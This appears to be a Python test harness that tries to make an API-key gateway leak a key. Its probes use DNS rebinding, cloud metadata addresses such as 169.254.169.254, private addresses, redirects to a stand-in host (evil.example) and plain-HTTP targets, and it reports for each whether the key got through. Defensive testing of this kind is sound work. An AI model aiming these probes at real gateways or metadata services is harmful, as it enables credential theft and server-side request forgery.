"""Tries to have a gateway send a key where none should go: by names whose addresses change, by addresses of
this machine and of clouds' metadata, by redirects, and in the clear.

    python3 address_attacks.py ADDRESS LOG KEY

ADDRESS is where the gateway is; LOG what inside.py wrote down. The stand-ins, and the proxy if there is one,
are the environment's. Prints "NAME: through" or "NAME: held" for each, and what was answered.
"""
import base64
import json
import os
import socket
import sys
import urllib.parse

address, log, key = sys.argv[1:4]
at = urllib.parse.urlsplit(address)
naive = "MY_API_API_KEY" not in os.environ
# What the naive one needs to have even its own look left out.
bare = "unchecked-" if naive else ""


def lines():
    try:
        with open(log) as file:
            return [json.loads(line) for line in file]
    except FileNotFoundError:
        return []


def ask(target, service, *headers):
    """The status of the answer; 0 if there is none."""
    variable = service.upper().replace("-", "_") + "_API_KEY"
    stand_in = os.environ.get(variable, "sk-mine")
    head = [f"GET {target} HTTP/1.1", f"Host: {at.netloc}", f"Authorization: Bearer {stand_in}", "Connection: close", *headers]
    with socket.create_connection((at.hostname, at.port), timeout=20) as stream:
        stream.sendall(("\r\n".join(head) + "\r\n\r\n").encode())
        back = b""
        while part := stream.recv(65536):
            back += part
    return int(back.split(b" ", 2)[1]) if back.startswith(b"HTTP/") else 0


def of_a_proxy():
    proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", ""))
    pair = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
    return f"Proxy-Authorization: Basic {pair}"


def never(wrong, *tries):
    """Whether, of these tries, one with the key arrived where it is wrong; and the answers."""
    before = len(lines())
    answers = [ask(*one) for one in tries]
    arrived = [one for one in lines()[before:] if key in one["authorization"] and wrong(one)]
    return bool(arrived), answers


inside = lambda one: one["at"] not in ("93.184.216.34",)  # noqa: E731
clear = lambda one: one["port"] == 80  # noqa: E731
stolen = lambda one: "stolen" in one["path"] and not one["path"].startswith("/to/")  # noqa: E731
attacks = {
    "a name that is public when it is looked at, and this machine then":
        (inside, *[("/mistral/twice", "mistral")] * 6),
    "a name that leads to 169.254.169.254": (inside, (f"/{bare}groq/metadata", "groq")),
    "the same as an IPv4-mapped address": (inside, ("/together/mapped", "together")),
    "another cloud's metadata by IPv6": (inside, ("/cohere/metadata", "cohere")),
    "a metadata address that is shared by carriers": (inside, (f"/{bare}deepseek/metadata", "deepseek")),
    "a private address behind a public one": (inside, (f"/{bare}cerebras/behind", "cerebras")),
    "a redirect to another host": (stolen, (f"/{bare}my-api/to/https/evil.example/stolen-1", "my-api")),
    "a redirect to http://": (clear, (f"/{bare}my-api/to/http/plain.example/stolen-2", "my-api")),
    "http:// as the target": (clear, ("http://plain.example/stolen-3", "my-api")),
    "http:// to the service itself, through the proxy":
        (clear, ("http://api.mistral.ai/stolen-4", "mistral", of_a_proxy()),
         ("http://plain.example/stolen-5", "mistral", of_a_proxy())),
}
for name, (wrong, *tries) in attacks.items():
    arrived, answers = never(wrong, *tries)
    print(f"{name}: {'through' if arrived else 'held'} {answers}", flush=True)
